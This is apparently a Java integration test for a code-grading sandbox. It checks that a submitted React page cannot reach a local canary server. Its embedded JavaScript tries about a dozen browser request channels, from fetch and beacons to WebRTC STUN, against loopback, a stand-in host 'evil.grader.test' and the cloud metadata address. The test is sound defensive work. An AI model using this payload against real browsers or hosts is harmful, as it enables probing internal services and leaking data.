package io.kubegrade.runner.security;

import static io.kubegrade.runner.testing.Grading.grade;
import static org.assertj.core.api.Assertions.assertThat;

import io.kubegrade.api.challenge.Challenge;
import io.kubegrade.api.event.Verdict;
import io.kubegrade.api.event.VerdictStatus;
import io.kubegrade.runner.pool.GradingPool;
import io.kubegrade.runner.testing.SharedPool;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A submission tries every way a page can make a request to a server on this machine; the server
 * must see none of them. (There is no internet here, so only loopback reachability is evidence.)
 */
@ExtendWith(SharedPool.class)
class NetworkSealIT {
  private static final Challenge RENDERS = io.kubegrade.runner.testing.Grading.PROBE;

  @Test
  void noRequestLeavesThePage(GradingPool pool) throws Exception {
    try (Canary canary = new Canary()) {
      int p = canary.port();
      String source = """
          const P = %d;
          const targets = ['http://127.0.0.1:' + P + '/fetch-ip', 'http://localhost:' + P + '/fetch-localhost',
            'http://evil.grader.test:' + P + '/fetch-grader-name', 'http://[::1]:' + P + '/fetch-ipv6',
            'http://169.254.169.254/latest/meta-data/'];
          function attack(tag) {
            for (const url of targets) {
              try { fetch(url + '?' + tag, { mode: 'no-cors' }).catch(() => {}); } catch (e) {}
              try { const x = new XMLHttpRequest(); x.open('GET', url + '?xhr-' + tag); x.send(); } catch (e) {}
              try { new Image().src = url + '?img-' + tag; } catch (e) {}
              try { navigator.sendBeacon(url + '?beacon-' + tag, 'x'); } catch (e) {}
              try { new WebSocket(url.replace('http', 'ws') + '?ws-' + tag); } catch (e) {}
              try { new EventSource(url + '?sse-' + tag); } catch (e) {}
              try { const s = document.createElement('script'); s.src = url + '?script-' + tag; document.head.appendChild(s); } catch (e) {}
              try { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url + '?css-' + tag; document.head.appendChild(l); } catch (e) {}
              try { const f = document.createElement('iframe'); f.src = url + '?iframe-' + tag; document.body.appendChild(f); } catch (e) {}
              try { window.open(url + '?popup-' + tag); } catch (e) {}
              try { new Worker(url + '?worker-' + tag); } catch (e) {}
            }
            try {
              const form = document.createElement('form');
              form.method = 'POST'; form.action = targets[2] + '?form-' + tag; form.target = '_blank';
              document.body.appendChild(form); form.submit();
            } catch (e) {}
            try {
              const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + P }] });
              pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)).catch(() => {});
            } catch (e) {}
          }
          attack('load');
          function App() {
            const [status, setStatus] = React.useState('ready');
            return <div><p id="status">{status}</p>
              <button id="go" onClick={() => { attack('click'); setStatus('done'); }}>go</button></div>;
          }
          """.formatted(p);

      Verdict verdict = grade(pool, RENDERS, source);
      Thread.sleep(1000); // anything still in flight would have arrived by now

      assertThat(verdict.status()).isEqualTo(VerdictStatus.ACCEPTED);
      assertThat(canary.hits()).isEmpty();
    }
  }

  @Test
  void navigationToALoopbackServiceIsBlocked(GradingPool pool) throws Exception {
    try (Canary canary = new Canary()) {
      String source = """
          function App() {
            return <div><p id="status">ready</p><button id="go" onClick={() => {
              location.href = 'http://evil.grader.test:%d/navigate';
            }}>go</button></div>;
          }
          """.formatted(canary.port());

      Verdict verdict = grade(pool, RENDERS, source);
      Thread.sleep(500);

      assertThat(verdict.status()).isIn(VerdictStatus.RUNTIME_ERROR, VerdictStatus.WRONG_ANSWER);
      assertThat(canary.hits()).isEmpty();
    }
  }
}
